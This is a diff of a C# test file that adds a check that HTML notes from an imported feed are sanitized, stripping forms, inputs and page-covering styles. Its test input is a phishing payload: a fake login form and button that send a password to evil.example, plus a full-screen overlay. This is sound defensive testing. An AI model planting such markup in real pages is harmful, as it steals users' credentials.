@@ -192,6 +192,25 @@ public sealed class OldHostKeysTests
             );
     }
 
+    [Fact]
+    public void HTML_notes_from_an_old_feed_cannot_ask_for_a_password_or_cover_the_page()
+    {
+        const string phishing = """
+            <p>Session expired, log in again:</p><form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button formaction="https://evil.example/b">Log in</button></form><div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">overlay</div><p style="color: red; font-weight: bold">Red text.</p>
+            """;
+
+        var site = TestSite.Build(Episode("notes_html: true", phishing)).ShouldSucceed();
+
+        var page = site.Html("episodes/hello/index.html").QuerySelector(".notes")!;
+        page.QuerySelectorAll("form, input, button, textarea, select").ShouldBeEmpty();
+        page.QuerySelectorAll("[formaction], [action]").ShouldBeEmpty();
+        var styles = page.QuerySelectorAll("[style]").Select(e => e.GetAttribute("style")!).ToList();
+        styles.ShouldAllBe(style => !style.Contains("position") && !style.Contains("z-index") && !style.Contains("height"), "only text styles stay");
+        styles.ShouldContain("color: rgba(255, 0, 0, 1); font-weight: bold");
+        page.TextContent.ShouldContain("Session expired, log in again:");
+        Item(site).Element(Content + "encoded")!.Value.ShouldNotContain("evil.example");
+    }
+
     // What an old feed's author could put in notes that `import` keeps as HTML, each a way browsers run script.
     public static TheoryData<string> Attacks =>
         new()
